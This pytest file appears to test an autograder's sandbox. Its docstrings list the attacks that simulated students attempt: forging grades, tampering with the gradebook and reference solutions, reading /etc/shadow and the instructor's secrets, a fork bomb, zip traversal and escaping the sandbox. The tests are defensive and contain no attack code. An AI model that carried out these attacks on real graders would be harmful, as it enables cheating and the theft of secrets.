    try:
        code, output, seconds = cli(
            "autograde",
            "--course",
            course.root,
            incoming,
            "--workers",
            2,
            env=grader_env(grader_tmp, {"HOME": str(base)}),
            wrap=as_unprivileged,
        )
        processes = settle_processes()
        yield Run(
            course, code, output, seconds, processes, config=config, students=students, incoming_trees=incoming_trees
        )
    finally:
        settle_processes(grace=0)
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture(scope="module")
def no_bwrap(template, tmp_path_factory):
    """The CLI with a PATH that has python but no bwrap: once plain (must refuse), once --unsafe-no-sandbox."""
    course, outside = course_and_outside(template, tmp_path_factory, "nobwrap")
    config = paths_config(course, outside)
    students = {
        "honest_reference": Student(honest(template)),
        "honest_untouched": Student(),
        "attack_escape": Student({"schedules": attack_module(template["stubs"], config, ESCAPE)}),
    }
    incoming = make_class(course, tmp_path_factory.mktemp("nobwrap_incoming") / "class", students)
    bin_dir = tmp_path_factory.mktemp("bin_without_bwrap")
    (bin_dir / "python").symlink_to(PY)
    (bin_dir / "python3").symlink_to(PY)
    env = grader_env(tmp_path_factory.mktemp("nobwrap_tmp"), {"PATH": str(bin_dir)})
    args = ("autograde", "--course", course.root, incoming, "--workers", 2)
    refused = cli(*args, env=env)
    refused_state = {
        "grades": course.path("grades.csv").exists() and read_scores(course),
        "markers": [Path(config[key]).exists() for key in ("outside_marker", "course_marker")],
    }
    unsafe = cli(*args, "--unsafe-no-sandbox", env=env)
    processes = settle_processes()
    return {
        "course": course,
        "refused": refused,
        "refused_state": refused_state,
        "unsafe": Run(course, *unsafe, processes),
        "markers": [Path(config[key]) for key in ("outside_marker", "course_marker")],
    }


# ---------------------------------------------------------------------------------------------------
# the main class


def test_the_class_is_graded_and_honest_students_get_their_marks(main_run):
    # the one archive that cannot be read (a member pointing outside it) is named, and makes the run exit 1
    # after everyone else is graded (issue 16); no other student fails
    assert main_run.code == 1, main_run.output[-5000:]
    assert "could not read attack_traversal_zip:" in main_run.output, main_run.output[-5000:]
    assert "failed" not in main_run.output.split("graded ")[-1].split(";")[0], main_run.output[-5000:]
    assert "SAWarning" not in main_run.output  # nbgrader's autoflush noise is not the instructor's business
    scores = main_run.scores()
    assert scores["honest_reference"] == scores["victim_reference"] == FULL, scores
    assert scores["honest_untouched"] == 0, scores


def test_a_cell_replacing_grade_or_printing_verdicts_scores_nothing_and_is_not_counted(main_run):
    """Attack 1: forged grade() and PASS/MISTAKE/FLAG lines, from a cell or as stored outputs, with the stubs."""
    scores = main_run.scores()
    for student in ("attack_forge_cell", "attack_forge_outputs", "attack_edited_grade_cells"):
        assert scores[student] == 0, (student, main_run.cells(student))
    report = main_run.report()
    assert COUNTERFEIT not in report["text"]
    forged = {("update_lr.values", "precedence_divides_by_one"), ("update_lr.values", COUNTERFEIT)}
    assert not forged & {(row["test"], row["mistake"]) for row in report["mistakes"]}, report["mistakes"]
    for student in ("attack_forge_cell", "attack_forge_outputs", "attack_edited_grade_cells", "honest_untouched"):
        assert "FLAG" not in report["students"][student]["notes"], report["students"][student]


def test_a_module_cannot_rewrite_the_reference_or_the_course_source(main_run):
    """Attack 2: utils/schedules.py rewrites solutions/schedules.py (answers 0.125) and plants code in source/."""
    assert main_run.solutions_changed == [], "solutions/ was rewritten by a student (restored by the test)"
    assert main_run.course_after == main_run.course_before
    cells = main_run.cells("attack_poison_solutions")
    assert cells["update_lr_values"] == cells["schedule_lr_decay_values"] == 0, cells
    assert main_run.cells("honest_reference") == POINTS


def test_a_module_cannot_touch_other_students_submissions(main_run):
    """Attack 3: the other students' submitted (and autograded) files are overwritten with stubs and garbage."""
    submitted = tree(main_run.course.submitted("victim_reference", "workbook"))
    submitted.pop("timestamp.txt", None)
    expected = {path: digest for path, digest in main_run.incoming_trees["victim_reference"].items()}
    assert submitted == expected
    assert main_run.cells("victim_reference") == POINTS
    assert main_run.scores()["attack_overwrite_others"] == 0


def test_a_module_cannot_write_the_gradebook(main_run):
    """Attack 4: sqlite3 on gradebook.db: own scores to the maximum, the others' to 0, triggers for later rows."""
    scores = main_run.scores()
    assert scores["attack_gradebook"] == 0, main_run.cells("attack_gradebook")
    # (victim_collision is left out: the colliding-id attack has its own test)
    assert scores["honest_reference"] == scores["victim_reference"] == scores["attack_huge_output"] == FULL, scores
    with sqlite3.connect(main_run.course.path("gradebook.db")) as connection:
        triggers = connection.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall()
        manual = connection.execute("SELECT COUNT(*) FROM grade WHERE manual_score IS NOT NULL").fetchone()[0]
    assert triggers == []
    assert manual == 0  # nobody graded by hand in this class


def test_a_module_cannot_find_and_execute_the_reference(main_run):
    """Attack 5: open solutions/schedules.py by its absolute path (or next to sys.path entries) and exec it."""
    assert main_run.scores()["attack_exec_reference"] == 0, main_run.cells("attack_exec_reference")


def test_a_reference_copy_setting_the_accept_reference_variable_itself_is_refused_and_flagged(main_run):
    """Attack 6: the verbatim ewa reference plus os.environ["OPTGRADE_ACCEPT_REFERENCE"] = "1" (assembled)."""
    assert main_run.cells("attack_accept_reference")["ewa_values"] == 0
    assert main_run.cells("honest_reference")["ewa_values"] == POINTS["ewa_values"]  # an own ewa is not a copy
    notes = main_run.report()["students"]["attack_accept_reference"]["notes"]
    assert "FLAG ewa.values: reference" in notes, notes


def test_feedback_holds_no_reference_source(main_run):
    """Attack 7: the reference printed (as is and reversed) at import, from a cell, and in error messages."""
    pages = feedback_pages(main_run.course, "attack_print_reference")
    assert pages, f"no feedback for attack_print_reference:\n{main_run.output[-3000:]}"
    for student in main_run.students:
        for page in feedback_pages(main_run.course, student):
            assert not reference_leaks(html_text(page)), (page, reference_leaks(html_text(page)))
    assert main_run.scores()["attack_print_reference"] == 0


def test_processes_a_module_starts_do_not_survive_grading(main_run):
    """Attack 8: Popen(start_new_session), nohup, setsid, fork + setsid, double fork; SIGTERM/SIGHUP ignored."""
    assert main_run.processes == []
    assert main_run.scores()["attack_detached_processes"] == 0


def test_a_module_reads_no_instructor_file_or_environment(main_run):
    """Attack 10: a secret file of the instructor's, /etc/shadow, the grader's environment; gates on each."""
    cells = main_run.cells("attack_secrets")
    assert cells["update_lr_values"] == 0, "the instructor's secret file was readable"
    assert cells["schedule_lr_decay_values"] == 0, f"the grader's {TOKEN_ENV} was in the student's environment"
    if os.access("/etc/shadow", os.R_OK) and Path("/etc/shadow").read_text().strip():
        assert cells["ewa_values"] == 0, "/etc/shadow was readable"
    for page in feedback_pages(main_run.course, "attack_secrets"):
        text = page.read_text(errors="replace")
        assert SECRET not in text and TOKEN not in text


def test_a_module_has_no_network(main_run):
    """Attack 10: connect to a listener the test runs on 127.0.0.1."""
    assert main_run.connections == []
    assert main_run.cells("attack_network")["update_lr_values"] == 0


def test_a_fork_bomb_is_bounded_and_cleaned_up(main_run):
    """Attack 10: 1000 forked children that sleep; the process limit must stop it short, none may survive."""
    assert main_run.cells("attack_fork_bomb")["update_lr_values"] == 0, "1000 processes were allowed"
    assert main_run.processes == []


def test_file_size_is_limited(main_run):
    """Attack 10: a 4 GiB (sparse) file in the working folder and in the temp folder."""
    cells = main_run.cells("attack_huge_file")
    assert cells["update_lr_values"] == 0, "a 4 GiB file could be written in the working folder"
    assert cells["schedule_lr_decay_values"] == 0, "a 4 GiB file could be written in the temp folder"
    for folder in (main_run.course.root, main_run.grader_tmp):
        big = [p for p in Path(folder).rglob("*") if p.is_file() and not p.is_symlink() and p.stat().st_size > 2**30]
        assert big == []


def test_memory_is_limited(main_run):
    """Attack 10: 6 GiB touched (the course is built with --memory-mb 2048)."""
    assert main_run.cells("attack_memory")["update_lr_values"] == 0


def test_symlinks_in_a_submission_do_not_reach_the_reference(main_run):
    """Attack 10: utils/schedules.py or a notes/ folder as symlinks to solutions/, in a folder or a zip."""
    scores = main_run.scores()
    for student in ("attack_symlink_file", "attack_symlink_dir", "attack_symlink_zip"):
        assert scores.get(student, 0) == 0, (student, main_run.cells(student))
        for area in ("submitted", "autograded", "feedback"):
            assert reference_files(main_run.course.path(area, student)) == [], (student, area)


def test_shipped_packages_do_not_override_grading(main_run):
    """Attack 10: shipped optgrade/, solutions/ (answers 0.25), utils/__init__.py, utils/checks/, sitecustomize."""
    assert main_run.scores()["attack_shadow_packages"] == 0, main_run.cells("attack_shadow_packages")
    assert COUNTERFEIT not in main_run.report()["text"]


def test_huge_stored_output_is_cut_and_grading_goes_on(main_run):
    """Attack 10: 200 000 lines (about 8 MB) of stored output in a submitted notebook."""
    assert main_run.cells("attack_huge_output") == POINTS
    baseline = main_run.course.feedback("honest_reference", "workbook") / SCHEDULES_NB.replace(".ipynb", ".html")
    page = main_run.course.feedback("attack_huge_output", "workbook") / SCHEDULES_NB.replace(".ipynb", ".html")
    assert page.stat().st_size < baseline.stat().st_size + 2**20


def test_deleted_grade_cells_are_restored(main_run):
    """Attack 10: every grade cell deleted (reference code) or replaced by print("PASS ...") with 100 points (stubs)."""
    assert main_run.cells("attack_deleted_grade_cells") == POINTS
    assert main_run.cells("attack_edited_grade_cells") == dict.fromkeys(POINTS, 0)
    grades = cell_grades(main_run.course, "workbook")["attack_edited_grade_cells"]
    assert {cell: grade.max_score for cell, grade in grades.items()} == POINTS


def test_zip_traversal_and_a_colliding_student_id_change_nothing(main_run):
    """Attack 10: zip members ../../… and /abs/…; a folder "victim~collision" that sanitises to victim_collision."""
    escaped = [main_run.outside / f"{how}-{TOKEN[:8]}" for how in ("traversal", "absolute")]
    assert not [path for path in escaped if path.exists()], list(main_run.outside.iterdir())
    assert main_run.scores().get("attack_traversal_zip", 0) == 0
    assert main_run.cells("victim_collision") == POINTS
    submitted = tree(main_run.course.submitted("victim_collision", "workbook"))
    submitted.pop("timestamp.txt", None)
    assert submitted == main_run.incoming_trees["victim_collision"]


def test_the_sandbox_is_not_silently_absent(main_run):
    """Student code writes outside its scratch copy (the test's tmp dir, the course dir): it must not land."""
    for key in ("outside_marker", "course_marker"):
        assert not Path(main_run.config[key]).exists(), f"student code wrote {main_run.config[key]}"
    assert main_run.scores()["attack_escape"] == 0, main_run.cells("attack_escape")


# ---------------------------------------------------------------------------------------------------
# an unprivileged grader: the student's code runs as the grader's own uid, inside the sandbox


def test_an_unprivileged_grader_grades_in_the_sandbox(unprivileged_run):
    run = unprivileged_run
    assert run.code == 0, run.output[-5000:]
    owner = run.course.path("gradebook.db").stat().st_uid
    assert owner != 0 and (os.geteuid() == 0) == (owner == NOBODY), owner
    scores = run.scores()
    assert scores["honest_reference"] == scores["victim_reference"] == FULL, scores
    zero = [student for student in run.students if student.startswith("attack_")] + ["honest_untouched"]
    assert {student: scores[student] for student in zero} == dict.fromkeys(zero, 0), scores


def test_an_unprivileged_graders_files_are_out_of_the_students_reach(unprivileged_run):
    """Same uid as the gradebook, the course and the other submissions: the sandbox alone keeps them safe."""
    run = unprivileged_run
    submitted = tree(run.course.submitted("victim_reference", "workbook"))
    submitted.pop("timestamp.txt", None)
    assert submitted == run.incoming_trees["victim_reference"]
    with sqlite3.connect(run.course.path("gradebook.db")) as connection:
        assert connection.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall() == []
        assert connection.execute("SELECT COUNT(*) FROM grade WHERE manual_score IS NOT NULL").fetchone()[0] == 0
    for key in ("outside_marker", "course_marker"):
        assert not Path(run.config[key]).exists(), f"student code wrote {run.config[key]}"
    assert run.cells("attack_secrets")["update_lr_values"] == 0, "the instructor's secret file was readable"
    assert run.processes == []


# ---------------------------------------------------------------------------------------------------
# the budget


def test_a_stalling_submission_ends_at_its_budget_without_delaying_the_others(budget_run):
    """Attack 9: every function sleeps 100 s; --budget 30 --test-timeout 8 --workers 2."""
    assert budget_run.code == 0, budget_run.output[-3000:]
    assert budget_run.seconds < BUDGET + 60, f"the class took {budget_run.seconds:.0f} s"
    assert budget_run.cells("a_staller") == dict.fromkeys(POINTS, 0)
    assert budget_run.cells("honest_reference") == POINTS
    assert budget_run.scores()["honest_untouched"] == 0
    # honest_reference's marks are in the gradebook while the staller (first in name order) still runs:
    # an order, not a time, so a loaded machine's slow start-up does not decide it
    assert budget_run.honest_done is not None, "honest_reference's full marks never appeared while the class ran"
    assert budget_run.staller_in is None or budget_run.honest_done < budget_run.staller_in, budget_run.__dict__
    graded = records(budget_run.course, "workbook")
    staller, honest = graded["a_staller"], graded["honest_reference"]
    assert staller["seconds"] >= BUDGET - 1, staller  # its budget, not the class's end, is what ended it
    # and by the run's own stage times: committed before the staller's job came back
    assert honest["stages"]["committed"] < staller["stages"]["graded"], (honest["stages"], staller["stages"])
    notes = budget_run.report()["students"]["a_staller"]["notes"]
    feedback = "\n".join(html_text(page) for page in feedback_pages(budget_run.course, "a_staller"))
    note = re.compile(r"budget|time limit|timed? ?out|took (too|longer)", re.I)
    assert note.search(notes) or note.search(feedback), (notes, feedback[-2000:])
    assert budget_run.processes == []


# ---------------------------------------------------------------------------------------------------
# --execute: the notebook cells run (inside the sandbox)


def test_execute_mode_grades_like_the_default(execute_run):
    assert execute_run.code == 0, execute_run.output[-5000:]
    scores = execute_run.scores()
    assert scores["honest_reference"] == FULL and scores["honest_untouched"] == 0, scores


def test_execute_mode_forged_verdicts_and_rewritten_notebooks_score_nothing(execute_run):
    scores = execute_run.scores()
    assert scores["attack_forge_cell"] == 0, execute_run.cells("attack_forge_cell")
    assert scores["attack_cell_rewrites_notebook"] == 0, execute_run.cells("attack_cell_rewrites_notebook")
    assert scores["attack_print_reference"] == 0
    report = execute_run.report()
    assert COUNTERFEIT not in report["text"]
    forged = ("update_lr.values", "precedence_divides_by_one")
    assert forged not in {(row["test"], row["mistake"]) for row in report["mistakes"]}


def test_execute_mode_cells_cannot_leak_escape_or_linger(execute_run):
    assert execute_run.solutions_changed == []
    for marker in execute_run.markers:
        assert not marker.exists(), f"a cell wrote {marker}"
    pages = feedback_pages(execute_run.course, "attack_cell_escape") + feedback_pages(
        execute_run.course, "attack_print_reference"
    )
    assert pages, execute_run.output[-3000:]
    for page in pages:
        text = html_text(page)
        assert SECRET not in text and TOKEN not in text, page
        assert not reference_leaks(text), (page, reference_leaks(text))
    assert execute_run.processes == []


# ---------------------------------------------------------------------------------------------------
# without bubblewrap


def test_autograde_refuses_without_bubblewrap(no_bwrap):
    code, output, _ = no_bwrap["refused"]
    assert code not in (0, None), output
    assert re.search(r"bubblewrap|bwrap", output, re.I), output
    assert "--unsafe-no-sandbox" in output, output
    assert not no_bwrap["refused_state"]["grades"], no_bwrap["refused_state"]
    assert no_bwrap["refused_state"]["markers"] == [False, False], "student code ran although grading was refused"


def test_unsafe_no_sandbox_grades_and_student_code_then_reaches_the_host(no_bwrap):
    """The positive control of the escape probe: unconfined, the same module does write outside (and scores)."""
    run = no_bwrap["unsafe"]
    assert run.code == 0, run.output[-5000:]
    scores = run.scores()
    assert scores["honest_reference"] == FULL and scores["honest_untouched"] == 0, scores
    assert [marker.exists() for marker in no_bwrap["markers"]] == [True, True]
    assert run.cells("attack_escape")["update_lr_values"] == POINTS["update_lr_values"]
